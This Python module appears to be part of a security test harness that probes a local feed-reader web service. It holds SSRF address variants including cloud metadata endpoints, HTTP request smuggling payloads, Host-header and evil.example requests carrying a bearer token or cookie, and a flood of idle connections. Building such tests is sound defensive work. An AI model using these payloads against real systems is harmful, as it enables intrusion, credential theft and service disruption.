"""Attacks on connections: those that it opens, and those that it accepts."""

from __future__ import annotations

import json
import re
import socket
import time
from collections.abc import Iterator
from contextlib import suppress
from urllib.parse import quote

from attacks import Answer, Finding, Target, until


def written_addresses(port: int) -> list[str]:
    """Ways to write the address of this machine."""
    hosts = (
        *("127.0.0.2", "127.2", "2130706434", "0x7f000002", "0177.0.0.2", "0x7f.0.0.2", "127.0.2", "017700000002"),
        *("[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "[0:0:0:0:0:ffff:127.0.0.2]", "[::127.0.0.2]", "[64:ff9b::7f00:2]"),
        *("[2002:7f00:2::]", "[::1]", "[::]", "0.0.0.0", "0", "localhost", "LOCALHOST.", "a.localhost", "127.0.0.2."),
        *(
            "127。0。0。2",
            "①②⑦.0.0.2",
            "127.0.0.2%2f",
            "127.0.0.2%00.example",
            "user@127.0.0.2",
            "example.org@127.0.0.2",
        ),
        *("169.254.169.254", "[fe80::1%25lo]", "[fd00:ec2::254]", "100.100.100.200", "127.000.000.002", "127.0.0.2#"),
    )
    return [f"http://{host}:{port}/secret" for host in hosts]


def addresses(target: Target) -> Iterator[Finding]:
    """Makes it connect to a forbidden place: by sources, webhooks, lists, redirects, and what feeds name."""
    bad = written_addresses(target.trap.port)
    for address in bad:
        target.program("POST", "/api/sources", {"address": address})
        made = target.program("POST", "/api/webhooks", {"address": address, "kinds": ["post.stored"]})
        if made.status == 201:
            target.program("POST", f"/api/webhooks/{json.loads(made.body)['id']}/test")
        outline = quote(address, safe=":/[]@%.#").replace("&", "&amp;").replace("'", "&apos;")
        target.program("POST", "/api/opml", f"<opml><body><outline xmlUrl='{outline}'/></body></opml>".encode())
        yield None
    for place, address in enumerate(bad[:12]):
        status = (301, 302, 303, 307, 308)[place % 5]
        target.site.pages[f"/hop{place}"] = Answer("", status, {"Location": address})
        target.program("POST", "/api/sources", {"address": target.site.url(f"/hop{place}")})
        yield None
    here = f"http://127.0.0.2:{target.trap.port}"
    target.site.pages["/names"] = Answer(
        f"""<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel><title>x</title><link>{here}/link</link>
        <atom:link rel="hub" href="{here}/hub"/><atom:link rel="self" href="{here}/self"/>
        <atom:link rel="next" href="{here}/next"/><image><url>{here}/image</url></image><icon>{here}/icon</icon>
        <item><guid>1</guid><title>t</title><enclosure url="{here}/sound" type="image/png" length="1"/>
        <description>&lt;img src="{here}/picture.png" width=900 height=900&gt;</description></item></channel></rss>""",
        headers={"Link": f'<{here}/hub2>; rel="hub"', "Content-Type": "application/rss+xml"},
    )
    target.site.pages["/page"] = Answer(
        f"""<link rel=alternate type="application/rss+xml" href="{here}/found"><link rel=next href="{here}/next">
        <a href="{here}/feed.xml">RSS</a><meta http-equiv=refresh content="0;url={here}/refresh">""",
        headers={"Content-Type": "text/html"},
    )
    for path in ("/names", "/page"):
        target.program("POST", "/api/sources", {"address": target.site.url(path)})
        yield None
    until(lambda: {"/names", "/page", *(f"/hop{n}" for n in range(12))} <= set(target.site.paths()), target.seconds)
    time.sleep(3)  # for what follows a visit
    missing = {"/names", "/page"} - set(target.site.paths())
    yield f"not tried: {sorted(missing)}" if missing else None
    yield from (f"reached by {visitor}" for visitor in target.trap.visitors)


def requests(target: Target) -> Iterator[Finding]:
    """Sends requests that two programs would understand differently, and that have no end."""
    host = f"Host: 127.0.0.1:{target.port}\r\n"
    inner = f"GET /healthz HTTP/1.1\r\n{host}\r\n"
    chunk = f"0\r\n\r\n{inner}"
    post = f"POST /login HTTP/1.1\r\n{host}"
    both = (f"Content-Length: {len(chunk)}\r\nTransfer-Encoding: ", "\r\n\r\n" + chunk)
    smuggled = (
        *(
            f"{post}{both[0]}{coding}{both[1]}"
            for coding in ("chunked", " chunked", "\tchunked", "xchunked", "identity")
        ),
        *(
            f"{post}{both[0]}{coding}{both[1]}"
            for coding in ("chunked, identity", "chunked\x0b", "Chunked", "gzip, chunked")
        ),
        f"{post}Content-Length: 0\r\nContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"{post}Content-Length: 0, {len(inner)}\r\n\r\n{inner}",
        f"{post}Content-Length: +0\r\n\r\n{inner}",
        f"{post}Content-Length: 0x0\r\n\r\n{inner}",
        f"{post}Content-Length : {len(inner)}\r\n\r\n{inner}",
        f"{post}X: y\r\n Content-Length: {len(inner)}\r\n\r\n{inner}",
        f"{post}X: y\rContent-Length: {len(inner)}\r\n\r\n{inner}",
        f"{post}Transfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n{inner}",
        f"{post}Transfer-Encoding: chunked\r\n\r\n-1\r\n{inner}",
        f"{post}Transfer-Encoding: chunked\r\n\r\n0\r\nX: y\r\n {inner}\r\n\r\n",
        f"GET /healthz HTTP/1.1\r\n{host}Host: evil.example\r\n\r\n",
        f"GET http://evil.example/api/stream HTTP/1.1\r\n{host}Authorization: Bearer {target.token}\r\n\r\n",
        f"GET /api/stream\x00/healthz HTTP/1.1\r\n{host}\r\n",
        f"GET /healthz HTTP/1.1\r\n{host}X: \x00\r\n\r\n",
        f"GET /healthz HTTP/9.9\r\n{host}\r\n",
        f"GET /healthz\r\n{host}\r\n",
        "GET /healthz HTTP/1.1\r\n\r\n",
        "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        f"GET /{'a' * 200_000} HTTP/1.1\r\n{host}\r\n",
        f"GET /healthz HTTP/1.1\r\n{host}" + "X: y\r\n" * 50_000 + "\r\n",
        f"GET /healthz HTTP/1.1\r\n{host}Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        f"CONNECT 127.0.0.2:{target.trap.port} HTTP/1.1\r\n{host}\r\n",
        f"TRACE / HTTP/1.1\r\n{host}Cookie: {target.cookie}\r\n\r\n",
    )
    for said in smuggled:
        answer = target.raw(said.encode("latin-1"))
        statuses = re.findall(rb"HTTP/1\.1 (\d+)", answer)
        if any(status >= b"500" for status in statuses):
            yield f"{statuses} for {said[:80]!r}"
        elif len(statuses) > 1 and said.startswith("POST"):
            yield f"two answers for {said[20:140]!r}"
        elif target.cookie.encode() in answer or b"evil.example" in answer:
            yield f"repeats what was sent: {said[:80]!r}"
        else:
            yield None
    crowd = [socket.create_connection(("127.0.0.1", target.port), timeout=20) for _ in range(200)]
    for place, client in enumerate(crowd):
        with suppress(OSError):
            client.sendall(
                (b"", b"GET / HTTP/1.1\r\nX", b"POST /login HTTP/1.1\r\nContent-Length: 9999\r\n\r\n")[place % 3]
            )
    got = target.ask("GET", "/healthz")
    yield None if got.status == 200 else f"/healthz says {got.status} beside idle connections"
    for client in crowd:
        client.close()
